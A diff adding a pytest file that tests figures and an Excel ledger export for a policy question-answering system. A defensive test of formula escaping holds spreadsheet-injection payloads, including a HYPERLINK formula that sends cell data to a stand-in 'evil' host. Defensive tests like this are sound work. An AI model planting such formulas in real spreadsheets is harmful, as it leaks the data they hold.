@@ -1,0 +1,283 @@
+"""Figures counted by hand on a small journal, and the ledger read back."""
+
+from collections.abc import Sequence
+from dataclasses import dataclass
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from time import perf_counter
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import Engine, insert
+
+from kb import tables
+from kb.answers import Answer, AnswerKind, Citation, Ending
+from kb.audit import Audit
+from kb.database import open_database
+from kb.errors import InputError, NotAllowedError
+from kb.figures import FigureReader, Figures, Growing, grown
+from kb.grouping import Grouping
+from kb.journal import Journal, Reason
+from kb.knowledge_base import KnowledgeBase
+from kb.ledger import COLUMNS, Ledger, file_name
+from kb.questions import Questions
+from kb.queue import Queue
+from kb.staff import Role, Staff
+
+DAY = date(2024, 5, 10)
+NOON = datetime(2024, 5, 10, 4, 0, tzinfo=UTC)  # noon in China
+CENTRE = Staff(name="centre", title="数字中心", role=Role.ADMIN)
+WANG = Staff(name="wang", title="王芳", role=Role.REVIEWER, departments=("区民政局",))
+ANSWERER = Staff(name="li", title="李强", role=Role.ANSWERER)
+REFUSAL = "现有政策文件中没有找到这个问题的答案。"
+
+
+@dataclass(frozen=True)
+class Records:
+    """A journal, and what reads it."""
+
+    engine: Engine
+    journal: Journal
+    questions: Questions
+    queue: Queue
+    audit: Audit
+
+    def record(
+        self,
+        question: str,
+        ending: Ending = Ending.QUOTED,
+        at: datetime = NOON,
+        took: float = 100.0,
+        departments: tuple[str, ...] = ("区民政局",),
+        **more: object,
+    ) -> str:
+        kinds = {Ending.QUOTED: AnswerKind.EXTRACT, Ending.FAQ: AnswerKind.FAQ}
+        answer = Answer(
+            question=question,
+            rewritten=question,
+            kind=kinds.get(ending, AnswerKind.REFUSED),
+            ending=ending,
+            confidence=0.5,
+            departments=departments,
+            timings_ms={"embed": 1.0, "total": took},
+            **{"text": REFUSAL, **more},
+        )
+        return self.journal.record(answer, None, at)
+
+    def leave(self, text: str, answer_id: str | None, at: datetime = NOON) -> str:
+        return self.questions.leave(text, "13812345678", answer_id, ("区民政局",), at).code
+
+    def figures(self, staff: Staff = CENTRE, since: date = DAY, until: date = DAY) -> Figures:
+        return FigureReader(self.engine, self.queue).figures(staff, since, until, NOON)
+
+    def ledger(self, file: Path, staff: Staff = CENTRE, since: date = DAY, until: date = DAY) -> list[dict]:
+        """The rows of the ledger as Excel reads them."""
+        written = Ledger(self.engine, self.audit).write(staff, since, until, file, NOON)
+        rows = list(load_workbook(file, read_only=True).active.iter_rows(values_only=True))
+        assert rows[0] == tuple(COLUMNS)
+        assert len(rows) == written + 1
+        return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
+
+
+@pytest.fixture
+def records(tmp_path: Path, kb: KnowledgeBase) -> Records:
+    engine = open_database(tmp_path / "kb.sqlite")
+    audit = Audit(engine)
+    queue = Queue(engine, Grouping(engine, "bundled", kb.embedder.embed_queries), audit, lambda: ())
+    return Records(engine, Journal(engine), Questions(engine, 7), queue, audit)
+
+
+def test_counted_by_hand(records: Records):
+    helped = records.record("低保怎么申请？", took=50)
+    records.journal.feedback(helped, True, None, None, NOON)
+    records.record("低保怎麼申請", Ending.FAQ, took=70, departments=("区民政局", "区财政局"))
+    wrong = records.record("低保标准是多少？", took=90)
+    records.journal.feedback(wrong, False, Reason.OUTDATED, None, NOON)
+    records.record("小学怎么报名？", Ending.NO_HITS, took=110, departments=())
+    left = records.record("怎么办离婚登记？", Ending.WEAK_EVIDENCE, took=130)
+    records.leave("怎么办离婚登记？", left)
+    records.leave("老年证怎么办理？", None)
+    records.record("几点上班？", Ending.CLOSED, took=5, departments=())
+    figures = records.figures()
+    total = figures.total
+    assert (total.asked, total.answered, total.refused, total.handed_over, total.closed) == (7, 3, 1, 2, 1)
+    assert (total.helpful, total.unhelpful, total.helpful_share) == (1, 1, 0.5)
+    assert (total.p50_ms, total.p95_ms) == (80.0, 125.0)  # of 5, 50, 70, 90, 110, 130
+    assert [(each.department, each.counts.asked) for each in figures.departments] == [
+        ("区民政局", 5),
+        ("（未归口）", 2),
+        ("区财政局", 1),
+    ]
+    most = figures.most_asked[0]
+    assert (most.text, most.times) == ("低保怎么申请？", 2)
+    assert {(each.text, each.asked) for each in figures.write_next} == {
+        ("低保标准是多少？", 1),
+        ("小学怎么报名？", 1),
+        ("怎么办离婚登记？", 1),
+        ("老年证怎么办理？", 1),
+    }
+
+
+def test_days_are_days_in_china_and_none_is_left_out(records: Records):
+    midnight = datetime(2024, 5, 9, 16, 0, tzinfo=UTC)
+    for at in (midnight - timedelta(seconds=1), midnight, midnight + timedelta(days=1)):
+        records.record("低保怎么申请？", at=at)
+    days = records.figures(since=date(2024, 5, 8), until=date(2024, 5, 11)).days
+    assert [(each.day.day, each.counts.asked) for each in days] == [(8, 0), (9, 1), (10, 1), (11, 1)]
+    assert records.figures().total.asked == 1
+
+
+def test_staff_see_what_concerns_their_departments(records: Records):
+    records.record("低保怎么申请？", departments=("区民政局", "区财政局"))
+    records.record("小学怎么报名？", departments=("区教体局",))
+    records.record("你好", Ending.NO_HITS, departments=())
+    figures = records.figures(WANG)
+    assert figures.total.asked == 2
+    assert {each.department for each in figures.departments} == {"区民政局", "（未归口）"}
+    assert {each.text for each in figures.most_asked} == {"低保怎么申请？", "你好"}
+
+
+def test_growing_words():
+    later = ["小学报名要什么材料", "小学报名时间", "小学报名", *["低保怎么申请"] * 11, "公租房"]
+    earlier = ["低保怎么申请"] * 10
+    assert grown(later, earlier) == (
+        Growing(word="小学", now=3, before=0),
+        Growing(word="报名", now=3, before=0),
+        Growing(word="低保", now=11, before=10),
+        Growing(word="申请", now=11, before=10),
+    )
+
+
+def test_growth_is_that_of_the_last_thirty_days(records: Records):
+    for days in (0, 10, 29, 30, 59, 60):
+        records.record("小学报名", at=NOON - timedelta(days=days))
+    assert Growing(word="小学", now=3, before=2) in records.figures().growing
+
+
+@pytest.mark.parametrize(
+    ("since", "told"),
+    [(DAY + timedelta(days=1), "早于开始日期"), (DAY - timedelta(days=366), "最多 366 天")],
+    ids=["backwards", "too long"],
+)
+def test_periods_that_make_no_sense(records: Records, tmp_path: Path, since: date, told: str):
+    with pytest.raises(InputError, match=told):
+        records.figures(since=since)
+    with pytest.raises(InputError, match=told):
+        records.ledger(tmp_path / "a.xlsx", since=since)
+
+
+def test_the_ledger_tells_what_came_of_each_question(records: Records, kb: KnowledgeBase, tmp_path: Path):
+    document = kb.documents.summaries()[0]
+    with records.engine.begin() as connection, kb.documents._engine.connect() as source:
+        row = source.execute(tables.documents.select().where(tables.documents.c.id == document.id)).mappings()
+        connection.execute(insert(tables.documents).values(**row.one()))
+    cited = Citation(
+        document=document.title,
+        document_id=document.id,
+        number=document.number,
+        section="",
+        page=None,
+        quote="原话",
+        start=0,
+        end=2,
+        url="/doc",
+        chunk_id=None,
+    )
+    judged = records.record("我的电话13812345678，低保标准？", text="每人每月 735 元。", citations=(cited,))
+    records.journal.feedback(judged, False, Reason.OUTDATED, "涨了", NOON)
+    refused = records.record("怎么办离婚登记？", Ending.NO_HITS, NOON + timedelta(minutes=1), 1234)
+    code = records.leave("怎么办离婚登记？", refused, NOON + timedelta(minutes=2))
+    replied = NOON + timedelta(days=2, hours=3, minutes=2)
+    records.questions.reply(code, "到婚姻登记处。", "区民政局", "王芳", replied)
+    records.leave("老年证怎么办理？", None)
+    records.record("明天的问题", at=NOON + timedelta(days=1))
+    first, second, third = records.ledger(tmp_path / "a.xlsx")
+    number = f"（{document.number}）" if document.number else ""
+    assert first == {
+        "时间": "2024-05-10 12:00:00",
+        "问题（已脱敏）": "我的电话〔电话号码〕，低保标准？",
+        "答复方式": "引用原文",
+        "答复内容": "每人每月 735 元。",
+        "依据文件": f"《{document.title}》{number}",
+        "部门": "区民政局",
+        "是否有用": "没用",
+        "原因": "内容过时；涨了",
+        "转办/留言状态": None,
+        "答复时间": "2024-05-10 12:00:00",
+        "时长": "0.10 秒",
+    }
+    assert (second["答复方式"], second["转办/留言状态"]) == ("人工答复", "已答复")
+    assert second["答复内容"] == f"{REFUSAL}\n【人工答复：区民政局 王芳】到婚姻登记处。"
+    assert (second["答复时间"], second["时长"]) == ("2024-05-12 15:02:00", "2 天 3 小时")
+    assert (third["问题（已脱敏）"], third["转办/留言状态"], third["答复时间"]) == (
+        "老年证怎么办理？",
+        "等待答复",
+        None,
+    )
+    assert "13812345678" not in str([first, second, third])
+    assert code.replace("-", "") not in str([first, second, third]).replace("-", "")
+
+
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "=1\x0b2\x00")
+
+
+def test_what_looks_like_a_formula_is_text(records: Records, tmp_path: Path):
+    for formula in FORMULAS:
+        records.record(formula, text=formula)
+    file = tmp_path / "a.xlsx"
+    records.ledger(file)
+    for row in load_workbook(file).active.iter_rows(min_row=2):
+        for cell in (row[1], row[3]):
+            assert cell.value[0] in "=+-@"
+            assert (cell.data_type, cell.quotePrefix) == ("s", True)
+
+
+def test_who_takes_the_ledger_out_is_on_record(records: Records, tmp_path: Path):
+    records.record("小学怎么报名？", departments=("区教体局",))
+    records.record("低保怎么申请？")
+    with pytest.raises(NotAllowedError, match="不能导出台账"):
+        records.ledger(tmp_path / "a.xlsx", ANSWERER)
+    assert [row["问题（已脱敏）"] for row in records.ledger(tmp_path / "a.xlsx", WANG)] == ["低保怎么申请？"]
+    (entry,) = records.audit.entries(5)
+    assert (entry.actor, entry.action, entry.subject) == ("wang", "导出台账", "2024-05-10 至 2024-05-10")
+    assert entry.after is not None and entry.after["rows"] == 1
+    assert file_name(DAY, DAY) == "政策问答台账_20240510-20240510.xlsx"
+
+
+def fill(engine: Engine, count: int) -> None:
+    """A journal of `count` questions in sixty days."""
+    texts = ("低保怎么申请？", "小学怎么报名？", "公租房申请条件", "老年证怎么办理？")
+    rows: Sequence[dict[str, object]] = [
+        {
+            "id": f"a{number}",
+            "asked_at": NOON - timedelta(minutes=number * 86_400 // count),
+            "question": f"{texts[number % 4]}{number}",
+            "key": f"k{number}",
+            "rewritten": "",
+            "kind": "extract",
+            "ending": "quoted",
+            "confidence": 0.5,
+            "text": "每人每月 735 元。" * 10,
+            "documents": [],
+            "departments": ["区民政局"],
+            "took_ms": float(number % 300),
+        }
+        for number in range(count)
+    ]
+    with engine.begin() as connection:
+        connection.execute(insert(tables.asked), rows)
+
+
+@pytest.mark.slow
+def test_a_hundred_thousand_rows(records: Records, tmp_path: Path):
+    fill(records.engine, 100_000)
+    begun = perf_counter()
+    written = Ledger(records.engine, records.audit).write(
+        CENTRE, DAY - timedelta(days=60), DAY, tmp_path / "a.xlsx", NOON
+    )
+    print(f"ledger {perf_counter() - begun:.1f} s")
+    assert written == 100_000
+    begun = perf_counter()
+    figures = records.figures(since=DAY - timedelta(days=60))
+    print(f"figures {perf_counter() - begun:.1f} s")
+    assert figures.total.asked == 100_000
